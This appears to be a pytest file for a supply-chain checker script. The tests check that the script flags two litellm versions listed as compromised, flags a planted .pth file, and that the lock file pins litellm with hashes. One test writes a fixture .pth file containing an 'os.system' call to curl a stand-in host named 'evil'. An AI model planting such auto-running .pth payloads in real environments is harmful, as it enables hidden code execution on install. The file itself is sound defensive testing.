"""scripts/check_supply_chain.py catches a compromised litellm and a planted .pth file."""

import importlib.util
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
spec = importlib.util.spec_from_file_location("check_supply_chain", ROOT / "scripts" / "check_supply_chain.py")
check = importlib.util.module_from_spec(spec)
spec.loader.exec_module(check)


def test_clean_site_dir(tmp_path):
    (tmp_path / "distutils-precedence.pth").write_text("")
    (tmp_path / "__editable__.tiercli-0.1.0.pth").write_text("")
    assert check.find_problems([tmp_path], lambda name: "1.110.2") == []


def test_compromised_versions(tmp_path):
    for bad in ("1.82.7", "1.82.8"):
        [problem] = check.find_problems([tmp_path], lambda name, v=bad: v)
        assert f"litellm {bad} is a known-compromised release" in problem


def test_planted_pth_file(tmp_path):
    (tmp_path / "litellm_init.pth").write_text("import os; os.system('curl evil')")
    [problem] = check.find_problems([tmp_path], lambda name: "1.110.2")
    assert "litellm_init.pth" in problem


def test_the_lock_pins_a_safe_litellm_with_hashes():
    lock = (ROOT / "requirements" / "runtime.txt").read_text()
    assert "litellm==1.110.2" in lock
    block = lock.split("litellm==1.110.2", 1)[1].split("\n    # via", 1)[0]
    assert "--hash=sha256:" in block
